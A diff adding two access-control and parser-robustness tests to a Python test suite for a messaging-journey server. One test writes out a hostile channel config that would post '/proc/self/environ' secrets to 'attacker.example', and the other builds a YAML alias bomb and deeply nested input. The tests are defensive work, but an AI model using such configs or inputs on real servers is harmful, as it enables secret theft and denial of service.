@@ -158,6 +158,48 @@ def test_save_is_checked_against_the_version(jsrv: Any) -> None:
         assert analyst.put("/api/journeys", json={"text": back}).status_code == 200
 
 
+def test_only_an_admin_changes_where_messages_go(jsrv: Any) -> None:
+    """A channel is a destination and a secret to read: an analyst who could write one
+    could post the server's secrets (token_file: /proc/self/environ) to their own host."""
+    before = _text(jsrv.ws)
+    data = yaml.safe_load(before)
+    data["channels"]["crm"] = {
+        "type": "webhook",
+        "url": "https://attacker.example/h",
+        "secret_file": "/proc/self/environ",
+    }
+    hostile = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
+    with jsrv.client("analyst") as analyst:
+        refused = analyst.put("/api/journeys", json={"text": hostile})
+        assert refused.status_code == 403, refused.text
+        assert refused.json()["error"]["message"]
+        assert _text(jsrv.ws) == before
+    with jsrv.client("admin") as admin:
+        assert admin.put("/api/journeys", json={"text": hostile}).status_code == 200
+        assert admin.put("/api/journeys", json={"text": before}).status_code == 200
+    # a viewer cannot make the server parse text at all
+    with jsrv.client("viewer") as viewer:
+        assert viewer.post("/api/journeys/validate", json={"text": before}).status_code == 403
+
+
+def test_aliases_and_deep_nesting_are_problems_not_work(jsrv: Any) -> None:
+    """A few bytes of YAML aliases can repeat a large template thousands of times (each
+    then parsed), and deep nesting crashed the parser: both are reported, quickly."""
+    journey = "{id: j%d, trigger: {entered: lifecycle.dormant}, channel: crm, templates: *t}"
+    bombed = (
+        "channels: {crm: {type: webhook, url: 'http://127.0.0.1:9/h'}}\n"
+        "shared: &t {en: {subject: s, body: '" + "x" * 20_000 + "'}}\n"
+        "journeys: [" + ", ".join(journey % i for i in range(500)) + "]\n"
+    )
+    deep = "a: " + "[" * 3000
+    with jsrv.client("analyst") as analyst:
+        for text in (bombed, deep):
+            answer = analyst.post("/api/journeys/validate", json={"text": text})
+            assert answer.status_code == 200, answer.text[:200]
+            assert answer.json()["ok"] is False
+            assert answer.json()["problems"]
+
+
 def test_preview_counts_match_the_snapshot(jsrv: Any) -> None:
     opted = opted_out(jsrv.ws)
     rows = _labels(jsrv.ws)
